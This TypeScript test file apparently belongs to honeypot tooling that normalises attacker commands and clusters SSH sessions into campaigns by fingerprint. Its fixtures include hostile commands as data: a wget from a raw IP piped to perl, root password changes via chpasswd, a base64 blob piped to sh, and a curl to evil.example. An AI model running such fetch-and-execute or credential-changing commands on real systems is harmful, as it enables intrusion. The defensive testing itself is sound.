import { expect, test } from 'vitest';
import { createSessionIndex, fingerprintOf, hasshOf, normaliseCommand } from './campaign.ts';
import { commands, session, started } from './session.suite.ts';

const blob = 'IyEvYmluL2Jhc2gKZWNobyBoZWxsbyB3b3JsZCBmcm9tIDIwMjYK';

test.each([
  ['  uname -a\t', 'uname -a'],
  ['ping 10.1.2.3; nc 2001:db8::1 80', 'ping IP; nc IP 80'],
  ['nc 10.1.2.3:8080', 'nc IP:8080'],
  ['pkg-1.2.3.4.5', 'pkg-1.2.3.4.5'],
  ['999.1.1.1', '999.1.1.1'],
  ['wget http://203.0.113.9:81/a/b.sh', 'wget http://IP:81/a/b.sh'],
  ['wget http://[2001:db8::1]/a.sh', 'wget http://IP/a.sh'],
  ['curl https://evil.example/0123456789abcdef0123', 'curl https://evil.example/0123456789abcdef0123'],
  ['wget -qO - 103.52.134.51/csx/perlNIK|perl', 'wget -qO - IP/csx/perlNIK|perl'],
  ['echo "root:J9uoMrirSMHb"|chpasswd|bash', 'echo "U:P"|chpasswd|bash'],
  ["echo 'a:b' | sudo chpasswd", 'echo "U:P" | sudo chpasswd'],
  ['echo root:x9|chpasswd', 'echo "U:P"|chpasswd'],
  [String.raw`echo -e "admin\nX8s8d\nX8s8d"|passwd|bash`, 'echo -e "P"|passwd|bash'],
  ['./x 0123456789abcdef0123456789ABCDEF', './x HEX'],
  ['echo deadbeef', 'echo deadbeef'],
  [String.raw`echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00\x00'`, "echo -ne 'HEX'"],
  [`echo ${blob}|base64 -d|sh`, 'echo B64|base64 -d|sh'],
  ['cat /usr/local/share/some/very/long/path/of/words/only', 'cat /usr/local/share/some/very/long/path/of/words/only'],
])('%j is %j', (input, normal) => {
  expect(normaliseCommand(input)).toBe(normal);
});

test.each([
  'a'.repeat(1_000_000),
  '0:'.repeat(500_000),
  '"'.repeat(1_000_000),
  'http://'.repeat(100_000),
  '1.'.repeat(500_000),
  'a:b '.repeat(200_000),
  String.raw`\x`.repeat(300_000),
  ' |'.repeat(300_000),
])('a long hostile line takes no time (%#)', (input) => {
  const began = performance.now();
  normaliseCommand(input);
  expect(performance.now() - began).toBeLessThan(500);
});

test('what is over 16 KiB does not count', () => {
  expect(normaliseCommand('x'.repeat(20_000))).toHaveLength(16_384);
});

function fingerprint(...inputs: string[]): string | undefined {
  return fingerprintOf(session({ commands: commands(...inputs.map((input, at) => [at, input] as const)) }));
}

test('a fingerprint is of the sequence, whoever is attacked with which password', () => {
  const one = fingerprint('w', 'echo "root:a1"|chpasswd', 'ping 10.0.0.1');
  expect(one).toMatch(/^[0-9a-f]{64}$/);
  expect(fingerprint('w ', 'echo "root:b2"|chpasswd', '', 'ping 10.0.0.2')).toBe(one);
  expect(fingerprint('echo "root:a1"|chpasswd', 'w', 'ping 10.0.0.1')).not.toBe(one);
  expect(fingerprint('w', 'echo "root:a1"|chpasswd')).not.toBe(one);
});

test('no command, no fingerprint', () => {
  expect(fingerprint()).toBeUndefined();
  expect(fingerprint('', '  ')).toBeUndefined();
});

test('the index tells the sessions of a campaign', () => {
  const index = createSessionIndex(fingerprintOf);
  const ls = { commands: commands([2, 'ls']) };
  index.add(session({ ...ls, id: 'a', sourceIp: '198.51.100.1' }));
  index.add(session({ ...ls, id: 'a', sourceIp: '198.51.100.1' }));
  index.add(session({ ...ls, id: 'b', sourceIp: '198.51.100.2', started: started + 5000 }));
  index.add(session({ ...ls, id: 'c', sourceIp: '198.51.100.2' }));
  index.add(session({ id: 'd', commands: commands([2, 'w']) }));
  index.add(session({ id: 'e' }));
  const campaign = index.of(session(ls));
  expect(campaign).toMatchObject({ sessions: 3, addresses: 2, first: started, last: started + 5000 });
  expect(campaign?.names.map(({ id }) => id)).toEqual(['a', 'b', 'c']);
  expect(campaign?.key).toBe(fingerprintOf(session(ls)));
  expect(index.of(session())).toBeUndefined();
  expect(index.of(session({ commands: commands([1, 'top']) }))).toBeUndefined();
});

test('the index is bounded', () => {
  const index = createSessionIndex(hasshOf, { maxKeys: 2, maxNames: 3 });
  const add = (hassh: string, n: number): void => {
    for (let i = 0; i < n; i++) index.add(session({ hassh, id: `${hassh}${i}`, sourceIp: `198.51.100.${i}` }));
  };
  add('a', 5);
  add('b', 1);
  add('a', 6);
  add('c', 1);
  add('', 1);
  expect(index.of(session({ hassh: 'b' }))).toBeUndefined();
  expect(index.of(session({ hassh: 'a' }))).toMatchObject({ addresses: 3, names: [{}, {}, {}] });
  expect(index.of(session({ hassh: 'c' }))).toMatchObject({ sessions: 1 });
  expect(index.of(session())).toBeUndefined();
});
